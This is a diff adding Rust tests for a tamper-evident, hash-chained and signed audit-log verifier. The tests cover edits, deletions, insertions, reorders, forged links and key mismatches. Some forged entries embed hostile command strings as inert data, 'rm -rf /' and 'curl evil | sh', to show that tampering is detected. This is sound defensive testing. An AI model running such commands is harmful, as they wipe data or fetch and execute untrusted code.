@@ -623,3 +623,289 @@ impl Walk<'_> {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use rsa::PrivateKey;
+    use rsa::pkcs8::DecodePrivateKey as _;
+
+    use super::*;
+    use crate::audit::chain::{AuditChain, Record};
+
+    const TIME: &str = "2025-06-01T12:00:00.000Z";
+
+    fn host_key() -> PrivateKey {
+        PrivateKey::from_pkcs8_pem(include_str!("../../tests/fixtures/host_rsa")).unwrap()
+    }
+
+    /// A sealed log of 11 lines with a checkpoint in the middle (line 6) and at the end.
+    fn sealed_log(key: &PrivateKey) -> Vec<String> {
+        let mut chain = AuditChain::new([9; 32]);
+        let steps = [
+            Some((EventKind::Start, None)),
+            Some((EventKind::Connect, None)),
+            Some((EventKind::AuthOk, None)),
+            Some((EventKind::Command, Some("id"))),
+            Some((EventKind::Exit, None)),
+            None,
+            Some((EventKind::Command, Some("ls"))),
+            Some((EventKind::Exit, None)),
+            Some((EventKind::Disconnect, None)),
+            Some((EventKind::Stop, None)),
+            None,
+        ];
+        steps
+            .into_iter()
+            .map(|step| match step {
+                Some((kind, command)) => {
+                    let mut record = Record::new(kind);
+                    record.session = Some("s1".into());
+                    record.command = command.map(str::to_owned);
+                    chain.seal(record, TIME.into()).unwrap()
+                }
+                None => chain.seal_checkpoint(TIME.into(), key, "SHA256:h").unwrap(),
+            })
+            .collect()
+    }
+
+    fn check(lines: &[String]) -> Verdict {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("log");
+        std::fs::write(
+            &path,
+            lines.iter().map(|l| format!("{l}\n")).collect::<String>(),
+        )
+        .unwrap();
+        verify_files(&[path], host_key().as_public_key()).unwrap()
+    }
+
+    fn broken_at(verdict: &Verdict) -> (u64, Tamper) {
+        match verdict {
+            Verdict::Broken(b) => (b.at.line, b.tamper),
+            other => panic!("expected a break, got {other:?}"),
+        }
+    }
+
+    #[test]
+    fn an_intact_log_is_sealed() {
+        let lines = sealed_log(&host_key());
+        let verdict = check(&lines);
+        assert_eq!(verdict.exit_code(), 0);
+        assert_eq!(
+            verdict.to_string(),
+            "OK: 11 events, last checkpoint at line 11"
+        );
+    }
+
+    #[test]
+    fn every_edit_is_found_at_its_line() {
+        let lines = sealed_log(&host_key());
+        for i in 0..lines.len() {
+            let mut edited = lines.clone();
+            edited[i] = edited[i].replacen("\"time\":\"2025", "\"time\":\"2024", 1);
+            let is_checkpoint = edited[i].contains("\"checkpoint\"");
+            let want = if is_checkpoint {
+                Tamper::BadSignature
+            } else {
+                Tamper::Edited
+            };
+            assert_eq!(
+                broken_at(&check(&edited)),
+                (i as u64 + 1, want),
+                "line {}",
+                i + 1
+            );
+        }
+    }
+
+    #[test]
+    fn every_deletion_is_found_where_the_hole_is() {
+        let lines = sealed_log(&host_key());
+        for i in 0..lines.len() - 1 {
+            let mut cut = lines.clone();
+            cut.remove(i);
+            assert_eq!(
+                broken_at(&check(&cut)),
+                (i as u64 + 1, Tamper::Deleted),
+                "line {}",
+                i + 1
+            );
+        }
+    }
+
+    #[test]
+    fn every_insertion_is_found_at_the_inserted_line() {
+        let lines = sealed_log(&host_key());
+        let forged = lines[3].replace("\"id\"", "\"rm -rf /\"");
+        for i in 0..=lines.len() {
+            let mut grown = lines.clone();
+            grown.insert(i, forged.clone());
+            assert_eq!(
+                broken_at(&check(&grown)),
+                (i as u64 + 1, Tamper::Inserted),
+                "inserted as line {}",
+                i + 1
+            );
+        }
+    }
+
+    #[test]
+    fn a_well_linked_forged_line_is_still_found() {
+        // A forger who recomputes seq and prev for the inserted line only.
+        let lines = sealed_log(&host_key());
+        let mut event = Event::parse(lines[6].as_bytes()).unwrap();
+        event.record.command = Some("curl evil | sh".into());
+        event.prev = line_hash(lines[6].as_bytes());
+        event.seq = 8;
+        let mut grown = lines.clone();
+        grown.insert(7, event.to_line().unwrap());
+        assert_eq!(broken_at(&check(&grown)), (8, Tamper::Inserted));
+    }
+
+    #[test]
+    fn every_swap_is_found_as_a_reorder() {
+        let lines = sealed_log(&host_key());
+        for i in 0..lines.len() - 1 {
+            let mut swapped = lines.clone();
+            swapped.swap(i, i + 1);
+            assert_eq!(
+                broken_at(&check(&swapped)),
+                (i as u64 + 1, Tamper::Reordered),
+                "lines {} and {}",
+                i + 1,
+                i + 2
+            );
+        }
+    }
+
+    #[test]
+    fn a_rewritten_chain_fails_at_the_next_checkpoint() {
+        // Recompute every link after an edit: only the signature can tell.
+        let lines = sealed_log(&host_key());
+        let mut rewritten = lines[..6].to_vec();
+        rewritten[3] = rewritten[3].replace("\"id\"", "\"true\"");
+        for i in 4..6 {
+            let mut event = Event::parse(rewritten[i].as_bytes()).unwrap();
+            event.prev = line_hash(rewritten[i - 1].as_bytes());
+            rewritten[i] = event.to_line().unwrap();
+        }
+        assert_eq!(broken_at(&check(&rewritten)), (6, Tamper::BadSignature));
+    }
+
+    #[test]
+    fn a_missing_final_checkpoint_is_live_or_crashed() {
+        let lines = sealed_log(&host_key());
+        let verdict = check(&lines[..10]);
+        assert_eq!(verdict.exit_code(), 2);
+        assert_eq!(
+            verdict.to_string(),
+            "chain intact: 10 events, every link holds\n\
+             4 events after the last checkpoint (line 6): the log is live or the server crashed"
+        );
+        let mut torn = lines[..10]
+            .iter()
+            .map(|l| format!("{l}\n"))
+            .collect::<String>();
+        torn.push_str("{\"time\":");
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("log");
+        std::fs::write(&path, torn).unwrap();
+        let verdict = verify_files(&[path], host_key().as_public_key()).unwrap();
+        assert!(matches!(
+            verdict,
+            Verdict::Unsealed {
+                after: 4,
+                torn: true,
+                ..
+            }
+        ));
+    }
+
+    #[test]
+    fn another_host_key_fails_the_first_checkpoint() {
+        let lines = sealed_log(&host_key());
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("log");
+        std::fs::write(
+            &path,
+            lines.iter().map(|l| format!("{l}\n")).collect::<String>(),
+        )
+        .unwrap();
+        let other =
+            PrivateKey::from_pkcs8_pem(include_str!("../../tests/fixtures/other_rsa")).unwrap();
+        let verdict = verify_files(&[path], other.as_public_key()).unwrap();
+        let (line, tamper) = broken_at(&verdict);
+        assert_eq!((line, tamper), (6, Tamper::BadSignature));
+        assert!(
+            verdict.to_string().contains("names host key SHA256:h"),
+            "{verdict}"
+        );
+    }
+
+    #[test]
+    fn a_missing_rotated_file_is_a_deletion_at_the_next_file() {
+        let lines = sealed_log(&host_key());
+        let dir = tempfile::tempdir().unwrap();
+        let parts = [&lines[..3], &lines[3..6], &lines[6..]];
+        let files: Vec<PathBuf> = parts
+            .iter()
+            .enumerate()
+            .map(|(n, part)| {
+                let path = dir.path().join(format!("log.{n}"));
+                std::fs::write(
+                    &path,
+                    part.iter().map(|l| format!("{l}\n")).collect::<String>(),
+                )
+                .unwrap();
+                path
+            })
+            .collect();
+        let key = host_key();
+        let all = verify_files(&files, key.as_public_key()).unwrap();
+        assert!(
+            matches!(
+                all,
+                Verdict::Sealed {
+                    events: 11,
+                    files: 3,
+                    ..
+                }
+            ),
+            "{all:?}"
+        );
+        let gap = verify_files(&[files[0].clone(), files[2].clone()], key.as_public_key()).unwrap();
+        let Verdict::Broken(found) = gap else {
+            panic!("{gap:?}")
+        };
+        assert_eq!(found.at.file, files[2]);
+        assert_eq!((found.at.line, found.tamper), (1, Tamper::Deleted));
+        assert!(
+            found.detail.contains("rotated file missing"),
+            "{}",
+            found.detail
+        );
+        // A later file alone does not begin at the genesis.
+        let tail = verify_files(&files[2..], key.as_public_key()).unwrap();
+        assert!(matches!(
+            tail,
+            Verdict::Broken(Break {
+                tamper: Tamper::Deleted,
+                ..
+            })
+        ));
+    }
+
+    #[test]
+    fn junk_is_an_edit_and_an_empty_log_an_error() {
+        let mut lines = sealed_log(&host_key());
+        lines[4] = "not json".into();
+        assert_eq!(broken_at(&check(&lines)), (5, Tamper::Edited));
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("log");
+        std::fs::write(&path, "").unwrap();
+        assert!(matches!(
+            verify_files(&[path], host_key().as_public_key()),
+            Err(AuditError::Empty { .. })
+        ));
+    }
+}
